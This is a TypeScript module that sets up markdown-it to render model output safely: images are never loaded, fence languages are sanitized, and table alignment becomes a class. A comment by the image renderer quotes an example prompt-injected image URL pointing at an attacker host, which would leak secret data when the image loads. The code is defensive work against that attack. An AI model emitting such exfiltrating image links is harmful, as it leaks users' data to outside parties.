// The markdown dialect of the panel: markdown-it with raw HTML off, plus three renderer
// changes that keep model output inert (images never load, fences carry a safe language
// class, table alignment becomes a class because the sanitizer strips style attributes).
import MarkdownIt from 'markdown-it';

export type MdToken = ReturnType<MarkdownIt['parse']>[number];

const IMAGE_URL_DISPLAY_MAX = 120;

function escapeHtml(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/**
 * The language of a fence from its info string ("ts title=x" -> "ts"), restricted to the
 * characters real language names use so it is safe in a class name.
 */
export function langFromInfo(info: string): string {
  const first = info.trim().split(/\s+/, 1)[0] ?? '';
  const cleaned = first.replace(/\\(.)/g, '$1').toLowerCase();
  return /^[a-z0-9_+#.-]{1,32}$/.test(cleaned) ? cleaned : '';
}

function createMarkdownIt(): MarkdownIt {
  const md = new MarkdownIt({ html: false, linkify: true, typographer: false, breaks: false });
  md.linkify.set({ fuzzyEmail: false });
  // Reference definitions ("[x]: url") make a block's rendering depend on text far away, which
  // would break rendering each finished block once (see StreamingMarkdown). Models rarely use
  // them; with the rule off such a line shows as text, URL included.
  md.disable('reference');

  // Markdown images are never loaded (a prompt-injected ![](https://attacker/?q=secret) would
  // leak data the moment it loads). Render them as a link-like text the user may choose to
  // open; non-web URLs lose the link in the sanitizer and become plain text.
  md.renderer.rules.image = (tokens, idx, options, env, self) => {
    const token = tokens[idx];
    const src = token.attrGet('src') ?? '';
    const alt = self.renderInlineAsText(token.children ?? [], options, env);
    const shown = src.length > IMAGE_URL_DISPLAY_MAX ? `${src.slice(0, IMAGE_URL_DISPLAY_MAX)}…` : src;
    const label = `🖼 ${alt ? `${alt} ` : ''}(${shown})`;
    return `<a href="${escapeHtml(src)}" class="md-image-link">${escapeHtml(label)}</a>`;
  };

  md.renderer.rules.fence = (tokens, idx) => {
    const token = tokens[idx];
    const lang = langFromInfo(token.info);
    const cls = lang ? ` class="language-${lang}"` : '';
    return `<pre><code${cls}>${escapeHtml(token.content)}</code></pre>\n`;
  };

  md.core.ruler.push('modelgate_align_classes', (state) => {
    const walk = (tokens: MdToken[]): void => {
      for (const t of tokens) {
        if ((t.type === 'th_open' || t.type === 'td_open') && t.attrs) {
          const style = t.attrGet('style') ?? '';
          t.attrs = t.attrs.filter(([name]) => name !== 'style');
          const m = /text-align:\s*(left|right|center)/.exec(style);
          if (m) t.attrJoin('class', `align-${m[1]}`);
        }
        if (t.children) walk(t.children);
      }
    };
    walk(state.tokens);
  });
  return md;
}

export const md = createMarkdownIt();

/** One top-level block of a token stream: tokens [from, to) and its source lines [map[0], map[1]). */
export interface TopBlock {
  from: number;
  to: number;
  startLine: number;
  endLine: number;
  type: string;
}

export function topLevelBlocks(tokens: MdToken[]): TopBlock[] {
  const blocks: TopBlock[] = [];
  let i = 0;
  while (i < tokens.length) {
    const t = tokens[i];
    let j = i;
    if (t.nesting === 1) {
      j = i + 1;
      while (j < tokens.length && !(tokens[j].level === t.level && tokens[j].nesting === -1)) j++;
    }
    const map = t.map ?? [0, 0];
    blocks.push({ from: i, to: j + 1, startLine: map[0], endLine: map[1], type: t.type });
    i = j + 1;
  }
  return blocks;
}

export function renderTokens(tokens: MdToken[], from: number, to: number): string {
  return md.renderer.render(tokens.slice(from, to), md.options, {});
}

const CLOSING_FENCE = /^ {0,3}(`{3,}|~{3,})[ \t]*$/;

/** True when `line` closes a fence opened with `marker` (same character, at least as long). */
export function isClosingFence(line: string, marker: string): boolean {
  const m = CLOSING_FENCE.exec(line);
  return !!m && m[1][0] === marker[0] && m[1].length >= marker.length;
}
